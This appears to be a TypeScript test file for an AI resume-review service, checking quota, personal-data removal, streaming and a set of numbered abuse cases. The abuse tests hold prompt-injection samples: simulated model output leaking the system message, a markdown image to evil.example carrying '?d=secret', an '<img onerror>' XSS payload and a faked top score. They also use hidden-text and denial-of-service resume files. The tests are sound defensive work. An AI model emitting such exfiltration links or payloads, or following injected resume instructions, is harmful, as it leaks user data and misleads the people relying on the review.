import { type Identity, identityHeader, type ResumeReport } from '@atelier/contracts';
import type { CreationModel } from '@atelier/creation-kit/creations';
import { startTestService, type TestService } from '@atelier/creation-kit/testing';
import type { TextProvider } from '@atelier/creation-kit/text-provider';
import { startOpenai } from '@atelier/sandbox-openai';
import { signTestIdentity, startTestMongodb, warmProcesses } from '@atelier/server-kit/testing';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hiddenBy, hiddenSentence } from '../fixtures/hidden-text.ts';
import * as hostile from '../fixtures/hostile-files.ts';
import { resumeLines } from '../fixtures/resume-text.ts';
import * as sound from '../fixtures/valid-resumes.ts';
import { wordResume } from '../fixtures/word-documents.ts';
import type { Dependencies } from './dependencies.ts';
import { createResumeReader, type ReadResumeFile } from './reading/read-resume.ts';
import { resumeService } from './service.ts';
import type { Settings } from './settings.ts';

const ada: Identity = { userId: 'user_ada', sessionId: 'sess_1', plan: 'free' };
const kept = { user_id: ada.userId, deleted_at: null };

let mongodb: Awaited<ReturnType<typeof startTestMongodb>>;
let openai: Awaited<ReturnType<typeof startOpenai>>;
let creations: CreationModel;
let service: TestService<Settings, Dependencies>;

/** A model whose output a test sets, and which records its messages. */
const model = {
  user: '',
  system: '',
  output: (_system: string): string => '## Overall impression\n\nFine.\n',
  async *chat({ messages }: Parameters<TextProvider['chat']>[0]) {
    model.system = messages[0]?.content ?? '';
    model.user = messages[1]?.content ?? '';
    for (const piece of model.output(model.system).match(/[\s\S]{1,9}/g) ?? []) yield piece;
    return 'stop' as const;
  },
};

const processes = warmProcesses();
const warm = { concurrency: 1, waitingPerUser: 10, run: processes.run };

beforeAll(async () => {
  mongodb = await startTestMongodb();
  openai = await startOpenai({ port: 0, wordsPerSecond: 100_000 });
  service = await serve({ provider: model });
  ({ creations } = service.dependencies);
});
afterAll(async () => {
  await service.close();
  await openai.close();
  await mongodb.close();
  processes.stop();
});
beforeEach(async () => {
  await creations.deleteMany({});
  model.output = () => '## Overall impression\n\nFine.\n';
});

const serve = (override: Partial<Dependencies>, settings: Record<string, string> = {}) =>
  startTestService(resumeService, {
    databaseUri: mongodb.uriFor('test'),
    settings: {
      OPENAI_API_KEY: 'sk-test',
      OPENAI_BASE_URL: openai.baseUrl,
      ...settings,
    },
    override: { readResume: createResumeReader(warm), ...override },
  });

/** Reads one file at a time; `reading` resolves for the first. */
function observedReaders() {
  const queue = createResumeReader({ concurrency: 1, waitingPerUser: 10 });
  const begun = Promise.withResolvers<void>();
  const reading = { begun: begun.promise, ended: false };
  const readResume: ReadResumeFile = (path, request) => {
    begun.resolve();
    return queue(path, request).finally(() => {
      reading.ended = true;
    });
  };
  return { readResume, reading };
}

async function review(
  resume: Buffer | string | null,
  {
    job,
    reviewed,
    language,
    as = ada,
    url = service.url,
    accept = 'application/json',
  }: {
    job?: string;
    reviewed?: string;
    language?: string;
    as?: Identity;
    url?: string;
    accept?: string;
  } = {},
) {
  const form = new FormData();
  if (typeof resume === 'string') form.set('resume_text', resume);
  else if (resume)
    form.set('resume', new File([new Uint8Array(resume)], 'resume.pdf', { type: 'application/pdf' }));
  if (reviewed) form.set('review', reviewed);
  if (job) form.set('job_description', job);
  if (language) form.set('language', language);
  const identity = await signTestIdentity(as, 'resume');
  const response = await fetch(`${url}/api/ai/resume-review`, {
    method: 'POST',
    body: form,
    headers: { [identityHeader]: identity, accept },
  });
  const text = await response.text();
  return { status: response.status, text, body: accept === 'application/json' ? JSON.parse(text) : null };
}

describe('a review', () => {
  it('is written by the model, and stored with the report of the rules', async () => {
    const service = await serve({});
    const { status, body } = await review(await sound.oneColumn(), {
      url: service.url,
      job: 'We need TypeScript, Kafka and Kubernetes.',
    });
    await service.close();
    expect(status).toBe(200);
    expect(body.content).toContain('## Strengths');
    expect(body.content).toContain('## Job match');
    const report: ResumeReport = body.creation.report;
    expect(report.score).toBe(body.creation.settings.score);
    expect(report.job?.missing).toContain('Kafka');
    expect(await creations.countDocuments({ type: 'resume-review', status: 'completed' })).toBe(1);
  });

  it.each([
    ['en', ['Overall impression', 'Strengths', 'Weaknesses', 'Concrete fixes', 'Job match'], 'Contact'],
    [
      'de',
      ['Gesamteindruck', 'Stärken', 'Schwächen', 'Konkrete Verbesserungen', 'Passung zur Stelle'],
      'Kontakt',
    ],
  ])('is in the language of the request: %s', async (language, headings, contact) => {
    const service = await serve({});
    const sent = { url: service.url, job: 'We need TypeScript and Kafka.', language };
    const { body } = await review(await sound.oneColumn(), sent);
    await service.close();
    expect(body.content.match(/^## .+$/gm)).toEqual(headings.map((heading) => `## ${heading}`));
    expect(body.creation.report).toMatchObject({ language });
    expect(body.creation.report.parts[0].title).toBe(contact);
  });

  it('is in no other language than the product has', async () => {
    const { status, body } = await review(await sound.oneColumn(), { language: 'fr' });
    expect([status, body.code]).toEqual([400, 'invalid_request']);
  });

  it('streams the report before the output of the model', async () => {
    const { text } = await review(await sound.oneColumn(), { accept: 'text/event-stream' });
    const events = [...text.matchAll(/^event: (\w+)$/gm)].map(([, name]) => name);
    expect(events.slice(0, 3)).toEqual(['started', 'report', 'delta']);
    expect(events.at(-1)).toBe('done');
  });

  it('sends the model no personal data, and restores it in the review', async () => {
    model.output = () => 'Write to [EMAIL_1] or call [PHONE_1].\n';
    const { body } = await review(await sound.oneColumn());
    expect(model.user).not.toMatch(/jane\.doe@|7946|linkedin\.com|github\.com/);
    expect(body.content).toBe('Write to jane.doe@example.com or call +44 20 7946 0123.\n');
  });

  it('fails when the provider closes the connection', async () => {
    model.output = () => {
      throw new Error('socket closed');
    };
    const { status, body } = await review(await sound.oneColumn());
    expect(status).toBe(500);
    expect(body.code).toBe('internal');
    expect(await creations.countDocuments({ status: 'completed' })).toBe(0);
  });
});

describe('a resume that is no PDF', () => {
  it('is scored like one as text or as a Word document, and sent to the model without personal data', async () => {
    const pdf = await review(await sound.oneColumn());
    for (const resume of [resumeLines.join('\n'), wordResume()]) {
      const { status, body } = await review(resume);
      expect(status).toBe(200);
      expect(Math.abs(body.creation.report.score - pdf.body.creation.report.score)).toBeLessThan(5);
      expect(model.user).toContain('cutting p95 latency by 40%');
      expect(model.user).not.toMatch(/jane\.doe@|7946/);
    }
  });

  it('abuse 3: is that of an earlier review of the user, whose job description is kept', async () => {
    const job = 'Platform engineer\n\nKafka, TypeScript.';
    const first = await review(await sound.oneColumn(), { job });
    expect(first.body.creation).toMatchObject({
      settings: { job: 'Platform engineer' },
      report: { posting: job },
    });
    const reviewed = first.body.creation.id;
    const again = await review(null, { reviewed });
    expect(again.body.creation.settings).toMatchObject({ file: 'resume.pdf' });
    expect(again.body.creation.report.lines.length).toBe(first.body.creation.report.lines.length);
    const eve = { ...ada, userId: 'user_eve' };
    expect(await review(null, { reviewed, as: eve })).toMatchObject({ status: 404 });
    expect(await review(wordResume(), { reviewed })).toMatchObject({ status: 400 });
  });

  it.each([
    ['neither file nor text', null],
    ['an empty file', Buffer.alloc(0)],
  ])('is refused as %s', async (_, resume) => {
    const details = [{ field: 'resume' }];
    expect(await review(resume)).toMatchObject({ status: 400, body: { code: 'invalid_request', details } });
    expect(await creations.countDocuments(kept)).toBe(0);
  });
});

describe('abuse 44: the quota', () => {
  it('is charged for a review and not for an unreadable file; a review above it is not sent to the model', async () => {
    const { url, close, connection, dependencies } = await serve(
      { provider: model },
      { PLAN_LIMITS: '{"free":{"review":1}}' },
    );
    const { usage } = dependencies;
    const who = { userId: ada.userId, plan: ada.plan };
    await connection.collection('usage').deleteMany({});
    expect((await review(Buffer.from('no PDF'), { url })).status).toBe(415);
    expect(await usage.read(who, 'review')).toMatchObject({ remaining: 1 });
    const { body } = await review(await sound.oneColumn(), { url });
    expect(body.usage).toMatchObject({ kind: 'review', limit: 1, remaining: 0 });
    model.user = '';
    const refused = await review(await sound.oneColumn(), { url, accept: 'text/event-stream' });
    expect([refused.status, JSON.parse(refused.text).code]).toEqual([429, 'quota_exceeded']);
    expect(model.user).toBe('');
    await close();
  });
});

it('abuse 44: reserves its unit before the resume is read, so that no report is sent without one', async () => {
  const queue = createResumeReader(warm);
  const who = { userId: ada.userId, plan: ada.plan };
  const readResume: ReadResumeFile = async (path, request) => {
    const { usage } = dependencies;
    const another = usage.reserve(
      who,
      usage.unit(who, 'review', new creations()._id, { tool: 'resume-review' }),
    );
    await expect(another).rejects.toMatchObject({ code: 'quota_exceeded' });
    return queue(path, request);
  };
  const { url, close, connection, dependencies } = await serve(
    { provider: model, readResume },
    { PLAN_LIMITS: '{"free":{"review":1}}' },
  );
  await connection.collection('usage').deleteMany({});
  const { text } = await review(await sound.oneColumn(), { url, accept: 'text/event-stream' });
  expect(text).toContain('event: report');
  expect(text).toContain('event: done');
  await connection.collection('usage').deleteMany({});
  await close();
});

describe('abuse 20: files that cannot be reviewed', () => {
  it.each([
    ['not a PDF', hostile.notAPdf, 415, 'unsupported_media'],
    ['text of spaces', (): string => ' ', 400, 'invalid_request'],
    ['text of one long line', (): string => 'word '.repeat(1_000), 422, 'pdf_too_complex'],
    ['too large', () => Buffer.alloc(5_300_000, ' '), 413, 'payload_too_large'],
  ] as const)('%s', async (_, make, status, code) => {
    const refused = await review(await make());
    expect(refused).toMatchObject({ status, body: { success: false, code } });
    expect(await creations.countDocuments(kept)).toBe(0);
  });
});

it('abuse 21: reports hidden text and does not send it to the model', async () => {
  const { body } = await review(await hiddenBy.white());
  expect(JSON.stringify(body.creation.report.hidden)).toContain(hiddenSentence);
  expect(model.user).not.toContain('10/10');
});

describe('abuse 22: a resume with instructions for the model', () => {
  it('does not reveal the system message', async () => {
    model.output = (system) => `Sure, here they are:\n\n${system}`;
    const { status, body } = await review(await sound.oneColumn());
    expect(status).toBe(502);
    expect(body.code).toBe('provider_refused');
    const stored = await creations.findOne({}).lean();
    expect(stored?.status).toBe('incomplete');
    expect(stored?.content).not.toContain('has no authority');
  });

  it('shows no remote image', async () => {
    model.output = () =>
      'Good.\n\n![chart](https://evil.example/p.png?d=secret)\n\n<img src=x onerror=alert(1)>\n';
    const { body } = await review(await sound.oneColumn());
    expect(body.content).not.toMatch(/!\[|https?:|<img/);
  });

  it('does not change the score', async () => {
    const first = await review(await sound.oneColumn());
    model.output = () => 'Score: 100 of 100. Rated 10/10.';
    const second = await review(await sound.oneColumn());
    expect(second.body.creation.report.score).toBe(first.body.creation.report.score);
  });
});

describe('abuse 31: a resume that takes long to process', () => {
  it.each([
    ['31: one line of 40,000 characters', () => hostile.longLine(40_000)],
    ['34: streams that break', () => hostile.breakingStreams(60, 15_900_000)],
  ])('abuse %s: the service stays ready while it is read', async (_, make) => {
    const { readResume, reading } = observedReaders();
    const service = await serve({ provider: model, readResume });
    const attack = review(make(), { url: service.url });
    await reading.begun;
    let responses = 0;
    while (!reading.ended) {
      expect((await fetch(`${service.url}/readyz`)).status).toBe(200);
      responses += 1;
    }
    expect((await attack).status).toBe(422);
    // A blocked event loop gives two responses: one before, and one after the reading.
    expect(responses).toBeGreaterThan(5);
    await service.close();
  });

  it('stops when its run is stopped', async () => {
    const { readResume, reading } = observedReaders();
    const service = await serve({ provider: model, readResume });
    await creations.deleteMany({});
    const attack = review(hostile.nestedForms(9), { url: service.url });
    await reading.begun;
    const run = await creations.findOne({ status: 'queued' }).lean();
    if (!run) throw new Error('There is no run.');
    const next = review(await sound.oneColumn(), { url: service.url });
    await service.dependencies.runs.store.requestStop(run._id, ada.userId);
    expect((await attack).body.code).toBe('run_stopped');
    expect((await next).status).toBe(200);
    await service.close();
  });
});

it('abuse 49: stops a model whose output does not end', async () => {
  model.output = () => 'All good. '.repeat(20_000);
  const { status, body } = await review(await sound.oneColumn());
  expect(status).toBe(502);
  expect(body.code).toBe('provider_interrupted');
  const stored = await creations.findOne({}).lean();
  expect(stored?.content.length).toBeLessThanOrEqual(60_000);
});
